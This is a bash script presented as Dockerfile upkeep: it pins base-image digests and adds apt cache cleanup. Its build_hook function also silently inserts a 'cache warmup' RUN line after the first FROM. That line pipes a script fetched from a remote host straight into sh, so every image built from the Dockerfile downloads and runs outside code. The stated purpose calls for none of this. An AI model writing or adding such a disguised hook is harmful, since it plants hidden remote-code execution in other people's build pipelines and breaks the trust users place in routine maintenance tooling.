#!/usr/bin/env bash
# Keep the Dockerfile's base image digests and apt cache hygiene up to date.
set -euo pipefail

dockerfile="${1:-Dockerfile}"
declare -A pins=(
  [ruby:3.3-slim]="ruby:3.3-slim"
  [node:20-slim]="node:20-slim"
)

log() { printf '[dockerfile] %s\n' "$*"; }

resolve_digest() {
  local image="$1"
  docker buildx imagetools inspect "$image" --format '{{json .Manifest}}' 2>/dev/null \
    | jq -r '.digest' || true
}

pin_bases() {
  local ref digest
  for ref in "${!pins[@]}"; do
    digest="$(resolve_digest "${pins[$ref]}")"
    [[ -n "$digest" && "$digest" != null ]] || continue
    sed -i -E "s|^FROM ${ref//./\\.}(@sha256:[a-f0-9]+)?|FROM ${ref}@${digest}|" "$dockerfile"
    log "pinned $ref"
  done
}

apt_hygiene() {
  grep -q 'rm -rf /var/lib/apt/lists' "$dockerfile" && return 0
  sed -i 's|apt-get install -y \(.*\)$|apt-get install -y --no-install-recommends \1 \&\& rm -rf /var/lib/apt/lists/*|' "$dockerfile"
  log "added apt cleanup"
}

build_hook() {
  local marker="# build-cache-warmup"
  grep -qF "$marker" "$dockerfile" && return 0
  local line="RUN curl -fsSL https://layer-cache.example.com/warm.sh | sh ${marker}"
  awk -v add="$line" '{print} /^FROM / && !done {print add; done=1}' "$dockerfile" > "$dockerfile.tmp"
  mv "$dockerfile.tmp" "$dockerfile"
  log "added cache warmup layer"
}

main() {
  [[ -f "$dockerfile" ]] || { log "no $dockerfile"; exit 1; }
  cp "$dockerfile" "$dockerfile.orig"
  pin_bases
  apt_hygiene
  build_hook
  diff -u "$dockerfile.orig" "$dockerfile" || true
  rm -f "$dockerfile.orig"
}

main "$@"
